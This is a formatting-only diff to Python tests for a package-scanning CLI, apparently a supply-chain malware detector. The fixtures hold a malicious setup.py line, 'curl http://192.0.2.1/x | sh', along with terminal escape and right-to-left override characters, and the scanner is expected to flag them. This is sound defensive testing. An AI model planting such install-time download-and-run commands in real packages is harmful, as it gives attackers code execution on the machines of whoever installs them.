@@ -14,8 +14,10 @@ from tests.core.archive.fixtures import (
     make_zip_ratio_bomb,
 )
 
-EVIL_SETUP = (b"import os\nfrom setuptools import setup\n"
-              b"os.system('curl http://192.0.2.1/x | sh')\nsetup(name='evil')\n")
+EVIL_SETUP = (
+    b"import os\nfrom setuptools import setup\n"
+    b"os.system('curl http://192.0.2.1/x | sh')\nsetup(name='evil')\n"
+)
 
 
 def run(capsys, *argv):
@@ -27,7 +29,9 @@ def run(capsys, *argv):
 def test_json_lines_schema_one_object_per_artifact(tmp_path, capsys):
     evil = make_sdist(tmp_path, name="evil", files={"setup.py": EVIL_SETUP})
     clean = make_wheel(tmp_path, name="clean")
-    code, out, err = run(capsys, str(evil), str(clean), "--json", "--db", str(tmp_path / "c.sqlite"))
+    code, out, err = run(
+        capsys, str(evil), str(clean), "--json", "--db", str(tmp_path / "c.sqlite")
+    )
     assert code == 0 and err == ""
     docs = [json.loads(line) for line in out.splitlines()]
     assert len(docs) == 2
@@ -37,12 +41,24 @@ def test_json_lines_schema_one_object_per_artifact(tmp_path, capsys):
         assert set(doc["target"]) == {"path", "ecosystem", "name", "version", "sha256"}
         assert set(doc["files"]) == {"scanned", "skipped"}
         for f in doc["findings"]:
-            assert set(f) == {"capability", "severity", "path", "line", "end_line", "column",
-                              "match", "snippet", "rule", "explanation"}
+            assert set(f) == {
+                "capability",
+                "severity",
+                "path",
+                "line",
+                "end_line",
+                "column",
+                "match",
+                "snippet",
+                "rule",
+                "explanation",
+            }
     by_name = {d["target"]["name"]: d for d in docs}
     assert by_name["evil"]["risk"]["level"] in ("high", "critical")
-    assert any(f["capability"] == "process.shell_download" and f["path"] == "setup.py" and f["line"] == 3
-               for f in by_name["evil"]["findings"])
+    assert any(
+        f["capability"] == "process.shell_download" and f["path"] == "setup.py" and f["line"] == 3
+        for f in by_name["evil"]["findings"]
+    )
     assert by_name["clean"]["risk"]["level"] in ("none", "low")
 
 
@@ -105,8 +121,14 @@ def test_bad_allowlist_and_bad_jobs_are_usage_errors(tmp_path, capsys):
 
 
 def test_jobs_uses_processes_and_gives_the_same_results(tmp_path):
-    paths = [str(make_sdist(tmp_path, name=f"p{i}", files={"setup.py": EVIL_SETUP if i % 2 else b"X = 1\n"}))
-             for i in range(4)]
+    paths = [
+        str(
+            make_sdist(
+                tmp_path, name=f"p{i}", files={"setup.py": EVIL_SETUP if i % 2 else b"X = 1\n"}
+            )
+        )
+        for i in range(4)
+    ]
     cmd = [sys.executable, "-m", "app.cli", "scan", *paths, "--json", "--no-cache"]
     one = subprocess.run(cmd + ["--jobs", "1"], capture_output=True, text=True, timeout=120)
     many = subprocess.run(cmd + ["--jobs", "2"], capture_output=True, text=True, timeout=120)
@@ -122,7 +144,9 @@ def test_archive_entries_escaping_the_folder_are_reported(tmp_path, capsys):
     code, out, _ = run(capsys, str(make_traversal_tar(tmp_path)), "--json", "--no-cache")
     doc = json.loads(out)
     assert code == 0
-    assert any(f["capability"] == "fs.write_outside" and f["rule"] == "arc.escape" for f in doc["findings"])
+    assert any(
+        f["capability"] == "fs.write_outside" and f["rule"] == "arc.escape" for f in doc["findings"]
+    )
 
 
 def test_json_stays_one_line_per_artifact_when_code_holds_unicode_line_separators(tmp_path, capsys):
@@ -143,11 +167,20 @@ def test_ctrl_c_stops_a_parallel_scan_at_once_and_leaves_no_workers(tmp_path):
     import signal
     import time
 
-    big = b"".join(b"def f%d(x):\n    return [x, '%d' * 3, {'k': x}]\n" % (i, i) for i in range(60000))
-    paths = [str(make_sdist(tmp_path, name=f"slow{i}", files={f"slow{i}/gen.py": big})) for i in range(10)]
-    proc = subprocess.Popen([sys.executable, "-m", "app.cli", "scan", *paths, "--json", "--no-cache",
-                             "--jobs", "2"], stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True,
-                            start_new_session=True)
+    big = b"".join(
+        b"def f%d(x):\n    return [x, '%d' * 3, {'k': x}]\n" % (i, i) for i in range(60000)
+    )
+    paths = [
+        str(make_sdist(tmp_path, name=f"slow{i}", files={f"slow{i}/gen.py": big}))
+        for i in range(10)
+    ]
+    proc = subprocess.Popen(
+        [sys.executable, "-m", "app.cli", "scan", *paths, "--json", "--no-cache", "--jobs", "2"],
+        stdout=subprocess.PIPE,
+        stderr=subprocess.PIPE,
+        text=True,
+        start_new_session=True,
+    )
     time.sleep(2.0)  # the workers are busy with the first artifacts
     os.killpg(proc.pid, signal.SIGINT)  # what Ctrl+C in a terminal does
     start = time.monotonic()
@@ -167,9 +200,11 @@ def test_ctrl_c_stops_a_parallel_scan_at_once_and_leaves_no_workers(tmp_path):
 
 
 def test_human_output_escapes_what_a_terminal_would_act_on(tmp_path, capsys):
-    setup = (b"import os\nfrom setuptools import setup\n"
-             b"os.system('curl http://192.0.2.1/x | sh # \x1b]0;pwned\x07 \xe2\x80\xae')\n"
-             b"setup(name='evil')\n")
+    setup = (
+        b"import os\nfrom setuptools import setup\n"
+        b"os.system('curl http://192.0.2.1/x | sh # \x1b]0;pwned\x07 \xe2\x80\xae')\n"
+        b"setup(name='evil')\n"
+    )
     evil = make_sdist(tmp_path, name="evil", files={"setup.py": setup, "l\u202egnp.py": setup})
     code, out, _ = run(capsys, str(evil), "--no-cache")
     assert code == 0
